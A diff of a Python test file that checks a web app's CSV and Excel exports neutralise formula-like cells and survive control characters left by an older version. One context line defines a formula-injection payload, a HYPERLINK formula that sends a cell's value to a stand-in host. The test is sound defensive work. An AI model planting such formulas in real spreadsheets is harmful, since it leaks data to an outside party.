@@ -9,9 +9,9 @@ import openpyxl
 import pytest
 
 from hlom_live.store.formulas import neutral, plain
+from hlom_live.store.models import InterventionRow
 from hlom_live.web.downloads.files import csv_file
 from hlom_live.web.paper.record import COLUMNS
-from hlom_live.web.paper.xlsx import xlsx_file
 from tests.support.web import API, Site
 
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
@@ -63,6 +63,11 @@ def test_a_cell_that_begins_like_a_formula_is_neutralised(start: str) -> None:
     assert read[0] == f"'{start}1+1"
 
 
-def test_control_characters_do_not_break_the_workbook() -> None:
-    book = openpyxl.load_workbook(io.BytesIO(xlsx_file("record", [COLUMNS, ["a\x0bb", *REST]])))
-    assert book.active["A2"].value == "a\ufffdb"
+@pytest.mark.parametrize("form", ["", "?form=data"])
+def test_what_an_older_version_let_in_does_not_break_the_workbook(delivered: Site, form: str) -> None:
+    with delivered.database.writing() as session:
+        session.query(InterventionRow).update({"summary": "a\x0bb\ufffe"})
+    answer = delivered.client().get(f"{API}/record.xlsx{form}")
+    assert answer.status_code == 200
+    cells = [cell.value for row in openpyxl.load_workbook(io.BytesIO(answer.data)).active.iter_rows() for cell in row]
+    assert "a\ufffdb\ufffd" in cells
